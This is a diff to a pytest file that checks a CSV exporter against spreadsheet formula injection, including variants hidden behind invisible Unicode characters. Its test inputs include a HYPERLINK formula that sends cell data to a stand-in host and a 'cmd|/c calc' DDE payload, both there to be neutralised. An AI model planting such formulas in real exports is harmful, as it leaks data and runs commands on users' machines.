@@ -38,11 +38,15 @@ def written(title: str) -> str:
     return cell
 
 
+UNSEEN = " \ufeff\u00a0\u2009\u200b\u200e\u202a\u202d\u202e\u2060\u2066\u2067\u2069\u3000"
+SIGNS = ("=", "+", "-", "@", "\uff1d")
+
+
 @pytest.mark.parametrize(
     "title",
     [
         "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\ufeff=1", "\u00a0=1", ";=1", "\n=1", "\uff1d1+1",
-        "\u3000=1", "\u200b=1", "\u2060+1", "\u2009@x", "\u200e-1", "\u200b\tx",
+        "\u3000=1", "\u200b=1", "\u2060+1", "\u2009@x", "\u200e-1", "\u200b\tx", "\u202a=1", "\u202e+1", "\u2066@x",
         "'=1", "''@x", "\tx", "\u00a0\r", " \u00a0\tx", "- he said", '=HYPERLINK("http://evil.test/?"&A1,"open")',
     ],
 )  # fmt: skip
@@ -60,14 +64,14 @@ def test_taking_one_apostrophe_off_gives_back_what_was_there(title: str) -> None
     cell = written(title)
     kept = cell[1:] if cell.startswith("'") and FORMULA.match(cell) else cell
     assert kept[:1] + PIECE_MARK.sub("", kept[1:]) == title
-    assert not cell.lstrip("\ufeff \u00a0").startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert not cell.lstrip(UNSEEN).startswith((*SIGNS, "\t", "\r"))
 
 
 @pytest.mark.parametrize(
     "title",
     [
         "a;=1", "a;b; =1", "a;\t=1", "a\t=1", "a\n=1+1", "a\r\n-1", 'a;@x"', "a;;=1", "a;'=1", "a; \ufeff+1",
-        "a;\u00a0=1", "a;\u00a0\r", "a;\u3000=1", "a;\u200b=1", "a;\u2009\u2060+1",
+        "a;\u00a0=1", "a;\u00a0\r", "a;\u3000=1", "a;\u200b=1", "a;\u2009\u2060+1", "a;\u202d=1", "a;\u2067\u2069-1",
         "a;\uff1d1", "a;\tx",
         'he said "x;=cmd|/c calc"',
     ],
@@ -79,7 +83,7 @@ def test_no_cell_is_a_formula_where_another_sign_separates(title: str, separator
         [{"id": 1, "title": title if kind == "VARCHAR" else [title]}], {"id": "BIGINT", "title": kind}
     ).decode()
     cells = [cell for line in body.splitlines() for cell in line.split(separator)]
-    assert [cell for cell in cells if FORMULA.match(cell) and not cell.startswith("'")] == []
+    assert [cell for cell in cells if cell.lstrip(UNSEEN).startswith(SIGNS)] == []
     if kind == "JSON":
         assert json.loads(read_back(body.encode())[0][1]) == [title]
 
